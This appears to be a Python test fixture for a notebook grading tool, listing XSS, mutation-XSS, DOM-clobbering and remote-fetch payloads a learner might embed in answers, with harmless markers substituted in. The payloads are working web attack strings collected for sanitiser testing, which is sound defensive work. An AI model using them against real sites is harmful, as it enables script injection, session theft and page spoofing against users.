"""What a learner could write so that a page runs it, fetches it, or is changed by it.

`PWN` stands for a script that leaves its trace, `ELSEWHERE` for another host. Each is put wherever a page
shows something of a learner's: in written answers and in outputs of every kind.
"""

# ruff: noqa: E501

RUNS = {
    "script": "<script>PWN</script>",
    "script in capitals, unclosed": "<SCRIPT>PWN</SCRIPT\n>",
    "script in a line": "See <script>PWN</script> there.",
    "script from elsewhere": '<script src="ELSEWHERE/a.js"></script>',
    "script as data": '<script src="data:text/javascript,PWN"></script>',
    "module": '<script type="module">PWN</script>',
    "script split by a tag": "<scr<script>ipt>PWN</scr</script>ipt>",
    "picture with onerror": "<img src=x onerror=PWN>",
    "picture with onerror, slashes": "<img/src=x/onerror=PWN>",
    "picture with onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=PWN>',
    "picture set": '<picture><source srcset="ELSEWHERE/a 1x"><img src=x onerror=PWN></picture>',
    "image, which is img": "<image src=x onerror=PWN>",
    "SVG with onload": "<svg onload=PWN></svg>",
    "SVG with a script": "<svg><script>PWN</script></svg>",
    "SVG script by entity": "<svg><script>PWN&#59;</script></svg>",
    "SVG animation": "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>",
    "SVG that sets a link": (
        '<svg><a><set attributeName=href to="javascript:PWN" /><text x=20 y=20>read</text></a></svg>'
    ),
    "SVG use": "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "SVG foreign object": "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
    "SVG image": '<svg><image href="ELSEWHERE/a.png" /></svg>',
    "MathML link": '<math><mi href="javascript:PWN">x</mi></math>',
    "MathML action": '<math><maction actiontype="statusline" xlink:href="javascript:PWN">x</maction></math>',
    "details": "<details open ontoggle=PWN>x</details>",
    "body": "<body onload=PWN onpageshow=PWN>",
    "autofocus": "<input autofocus onfocus=PWN>",
    "autofocus, select": "<select autofocus onfocus=PWN></select>",
    "autofocus, any": "<b tabindex=0 autofocus onfocus=PWN>x</b>",
    "contenteditable": "<b contenteditable autofocus onfocus=PWN>x</b>",
    "mouse": "<b onmouseover=PWN onmouseenter=PWN onclick=PWN>x</b>",
    "transition": "<b style='animation: x 1s' onanimationstart=PWN ontransitionend=PWN>x</b>",
    "video": "<video src=x onerror=PWN></video><audio src=x onerror=PWN></audio>",
    "video source": "<video><source onerror=PWN src=ELSEWHERE/a.mp4></video>",
    "marquee": "<marquee onstart=PWN>x</marquee>",
    "frame": '<iframe src="javascript:PWN"></iframe>',
    "frame's own page": '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
    "frame as data": '<iframe src="data:text/html,<script>parent.PWN</script>"></iframe>',
    "object": '<object data="javascript:PWN"></object>',
    "object as data": '<object data="data:text/html,<script>PWN</script>"></object>',
    "embed": '<embed src="ELSEWHERE/a.svg"><embed src="javascript:PWN">',
    "portal": "<portal src=ELSEWHERE/a></portal><frameset onload=PWN><frame src=ELSEWHERE></frameset>",
    "template": "<template shadowrootmode=open><img src=x onerror=PWN></template>",
    "custom element": "<x-y onfocus=PWN autofocus tabindex=1>x</x-y>",
}

FETCHES = {
    "picture": "<img src=ELSEWHERE/a.png>",
    "picture, lazy and set": '<img srcset="ELSEWHERE/a.png 1x" loading=eager>',
    "picture without a scheme": "<img src=//elsewhere.example/a.png>",
    "picture of the server's": '<img src="/logout"><img src="../../../logout">',
    "picture of the server's, by mark": "![x](/formgrader/submissions/1/next) ![x](../../api/terminals)",
    "Markdown picture": "![x](ELSEWHERE/a.png)",
    "picture by reference": "![x][far]\n\n[far]: ELSEWHERE/a.png",
    "background": "<table background=ELSEWHERE/a.png><tr><td background=ELSEWHERE/b.png>x</td></tr></table>",
    "style": "<style>body { background: url(ELSEWHERE/a.png) }</style>",
    "style that imports": "<style>@import 'ELSEWHERE/a.css';</style>",
    "style attribute": "<b style=\"background: url('ELSEWHERE/a.png')\">x</b>",
    "style attribute, escaped": r'<b style="b\61 ckground:u\72l(ELSEWHERE/a.png)">x</b>',
    "colour with an address": '<b style="background-color: red url(ELSEWHERE/a.png); color:url(ELSEWHERE)">x</b>',
    "image set": "<b style=\"background-image: image-set('ELSEWHERE/a.png' 1x); content: url(ELSEWHERE)\">x</b>",
    "list picture": '<ul style="list-style: url(ELSEWHERE/a.png)"><li>x</li></ul>',
    "style sheet": '<link rel=stylesheet href="ELSEWHERE/a.css"><link rel=preload as=image href=ELSEWHERE/a>',
    "prefetch": '<link rel=prefetch href="ELSEWHERE/a"><link rel=dns-prefetch href=ELSEWHERE>',
    "base": "<base href=ELSEWHERE/>",
    "refresh": '<meta http-equiv=refresh content="0; url=ELSEWHERE/a">',
    "refresh to a script": '<meta http-equiv=refresh content="0; url=data:text/html,<script>PWN</script>">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "form": "<form action=ELSEWHERE/a method=post><input name=a value=1><button autofocus>Go</button></form>",
    "form of the formgrader": (
        '<form action="/formgrader/api/grade/1" method=post><input type=image src=ELSEWHERE/a.png></form>'
    ),
    "button of another form": '<button formaction="javascript:PWN" autofocus>x</button><isindex>',
    "ping": '<a href="https://elsewhere.example" ping=ELSEWHERE/ping>x</a>',
    "track": "<video poster=ELSEWHERE/a.png autoplay><track src=ELSEWHERE/a.vtt default></video>",
    "bgsound": "<bgsound src=ELSEWHERE/a.wav><audio src=ELSEWHERE/a.wav autoplay></audio>",
    "SVG filter": '<svg><rect style="fill:url(ELSEWHERE/a.svg#x)" filter="url(ELSEWHERE/a.svg#f)"/></svg>',
    "mermaid": "```mermaid\ngraph LR; a[<img src=x onerror=PWN>] --> b\n```\n\n```mermaid<script>\n</pre>PWN\n```",
}

LINKS = {
    "javascript": "[x](javascript:PWN)",
    "javascript, tab": "<a href='java\tscript:PWN'>x</a> [x](java&Tab;script:PWN)",
    "javascript, entity": "<a href='&#106;avascript&colon;PWN'>x</a> [x](&#106;avascript:PWN)",
    "javascript, blank first": "<a href=' \x01javascript:PWN'>x</a>",
    "javascript, capitals": "[x](JaVaScRiPt:PWN)",
    "javascript, by reference": "[x]\n\n[x]: javascript:PWN 'title'",
    "javascript, in corners": "<javascript:PWN> <data:text/html,PWN>",
    "vbscript and data": "[x](vbscript:PWN) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "title that ends": '[x](https://a.example "\\" onmouseover=PWN ")',
    "address that ends": '[x](https://a.example/"onmouseover="PWN) <https://a.example/"onmouseover="PWN">',
    "autolink that ends": "https://a.example/'onmouseover='PWN'> <img/src=x onerror=PWN>",
    "alt that ends": '![" onerror="PWN](x) ![x](x"onerror="PWN)',
    "data picture that ends": '![x](data:image/png;base64,AAAA"onerror="PWN)',
    "data picture with a page": '<img src="data:text/html,<script>PWN</script>">',
    "SVG picture": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='PWN'/>\">"
    ),
    "attachment that is not there": "![x](attachment:nothing.png)",
    "attachment that ends": "![x](attachment:evil.png)",
    "info string": '```"><script>PWN</script>\nx\n```\n\n~~~python onmouseover=PWN\nx\n~~~',
    "formula": "$x<script>PWN</script>$ $$\\text{<img src=x onerror=PWN>}$$ \\begin{x<b}</script>\\end{x<b}",
    "formula with a link": r"$\href{javascript:PWN}{x}$ $$\href{ELSEWHERE}{\style{x:url(ELSEWHERE)}{x}}$$",
    "formula with a class": r"$\class{full-credit}{x} \cssId{statusmessage}{y} \unicode{<img src=x onerror=PWN>}$",
    "table": "| a |\n|---|\n| <img src=x onerror=PWN> |",
    "heading": '# <img src=x onerror=PWN> {#statusmessage}\n\nx"><img src=x onerror=PWN>\n===',
    "files": "<a href='files/javascript:PWN'>x</a> <img src=files//elsewhere.example/a.png>",
}

MUTATES = {
    "comment": "<!--><img src=x onerror=PWN>-->",
    "comment, bang": "<!--x--!><img src=x onerror=PWN>-->",
    "comment that is not closed": "<!-- <img src=x onerror=PWN>",
    "processing instruction": "<?x ><img src=x onerror=PWN>?>",
    "CDATA": "<![CDATA[<img src=x onerror=PWN>]]> <svg><![CDATA[</svg><img src=x onerror=PWN>]]>",
    "end of CDATA": "]]><img src=x onerror=PWN>",
    "template braces": "{{ ''.__class__ }}{% raw %}<script>PWN</script>{% endraw %}{{ self.__init__ }}",
    "escape codes": '\x1b[31m<img src=x onerror=PWN>\x1b[38;5;1;2;"onclick=PWN;m\x1b[48;2;1;2;<b>m',
    "null and controls": "<scr\x00ipt>PWN</scr\x00ipt> <img src=x on\x0cerror=PWN\x08>",
    "half a character": "\ud83d <img src=x onerror=PWN>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "title": '<title><p title="</title><img src=x onerror=PWN>"></title>',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=PWN>"></textarea>',
    "xmp and plaintext": '<xmp><p title="</xmp><img src=x onerror=PWN>"></xmp>',
    "style in MathML": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=PWN&gt;">',
    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN>",
    "style in SVG": '<svg></p><style><a title="</style><img src=x onerror=PWN>">',
    "annotation": "<math><annotation-xml encoding='text/html'><style><img title=\"</style><img src onerror=PWN>\">",
    "noembed": '<noembed><img title="</noembed><img src onerror=PWN>"></noembed><noframes><p title="</noframes>'
    '<img src=x onerror=PWN>">',
    "table that moves": "<table><a href=x><tr><td><svg><desc><table><mglyph><style><img src=x onerror=PWN>",
    "select": "<select><option><style></option></select><img src=x onerror=PWN></style>",
    "unquoted": '<a title=`x` onmouseover=PWN//`>x</a> <img alt="`><img src=xx onerror=PWN>">',
    "end of the page": "</div></div></body></html><img src=x onerror=PWN>",
    "end of a field": "</textarea></pre></script></style><img src=x onerror=PWN>",
    "deep": "<div>" * 600 + "<img src=x onerror=PWN>" + "> " * 300,
}

CHANGES = {
    "the page's fields": '<input class="score tabbable" id="answer-0" value=99><a id=submission_id>x</a>',
    "the page's globals": "<a id=formgrader></a><form id=MathJax name=Hub></form><img name=cookie><a id=base_url>",
    "the message": '<div id="statusmessage" class="help">x</div><a name="top">x</a>',
    "a button over the page": (
        '<a href="https://a.example" class="navbar-fixed-top full-credit modal" style="position:fixed;top:0;left:0;'
        'width:100%;height:100%;z-index:9999;opacity:0;margin:-99px;transform:scale(9)">x</a>'
    ),
    "a tip of Bootstrap's": (
        '<li class="next"><a data-toggle="tooltip" data-html="true" title="<img src=x onerror=PWN>" '
        'data-template="<img src=x onerror=PWN>">x</a></li>'
    ),
    "a part of Bootstrap's": (
        '<a data-toggle="collapse" data-target="<img src=x onerror=PWN>" data-link="x">x</a>'
        '<div data-ride="carousel" data-spy="affix" data-remote="ELSEWHERE/a">x</div>'
    ),
}

ALL = {
    f"{kind}: {name}": text
    for kind, texts in {
        "runs": RUNS,
        "fetches": FETCHES,
        "link": LINKS,
        "mutates": MUTATES,
        "changes": CHANGES,
    }.items()
    for name, text in texts.items()
}


def payloads():
    """Return {name: text} with the traces that tell which one ran."""
    return {
        name: text.replace("PWN", f"window.pwned={number}").replace("ELSEWHERE", "http://elsewhere.example")
        for number, (name, text) in enumerate(ALL.items(), start=1)
    }
